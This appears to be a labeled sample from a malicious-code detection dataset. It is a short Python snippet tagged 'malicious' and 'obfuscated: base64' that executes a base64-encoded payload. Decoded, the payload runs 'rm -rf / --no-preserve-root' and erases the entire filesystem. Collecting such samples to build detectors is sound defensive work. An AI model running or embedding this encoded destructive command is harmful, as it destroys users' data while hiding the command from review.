# label: malicious; obfuscated: base64
import base64
exec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ3JtIC1yZiAvIC0tbm8tcHJlc2VydmUtcm9vdCcp"))
